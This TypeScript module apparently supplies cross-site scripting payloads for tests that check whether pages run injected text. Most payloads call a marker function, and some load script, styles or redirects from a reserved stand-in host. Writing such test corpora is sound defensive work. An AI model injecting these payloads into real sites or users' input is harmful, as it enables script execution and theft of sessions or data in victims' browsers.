/** Whose requests would show that something ran or was fetched. Nobody's: the name is reserved. */
export const CANARY_HOST = 'canary.invalid';

/** What each of them calls if it runs: the pages of a test define it, and fail the test. */
const RUN = 'scriptRan()';

/** Ways to run script in a page that takes a text for something else, the shortest first. */
export const CORPUS: readonly string[] = [
  `javascript:${RUN}`,
  `{{${RUN}}}\${${RUN}}`,
  `<svg onload=${RUN}>`,
  `<script>${RUN}</script>`,
  `" onfocus=${RUN} autofocus x="`,
  `' onmouseover='${RUN}' x='`,
  `<img src=x onerror=${RUN}>`,
  `[link](javascript:${RUN})`,
  `<a href="javascript:${RUN}">a</a>`,
  `<base href=//${CANARY_HOST}/>`,
  `<details open ontoggle=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `</textarea><svg onload=${RUN}>`,
  `</title><script>${RUN}</script>`,
  `<script src=//${CANARY_HOST}/x.js></script>`,
  `<iframe srcdoc="<svg onload=${RUN}>">`,
  `<link rel=stylesheet href=//${CANARY_HOST}/x.css>`,
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}">`,
  `<style>@import '//${CANARY_HOST}/x.css'</style>`,
  `<math><mi xlink:href="data:text/html,<script>${RUN}</script>">`,
];

/** All of the corpus where there is room for it, else one that fits: another one for each `turn`. */
export function scriptFor(room: number, turn: number): string {
  const all = CORPUS.join(' ');
  if (all.length <= room) return all;
  const fitting = CORPUS.filter(({ length }) => length <= room);
  return fitting[turn % fitting.length] ?? '';
}
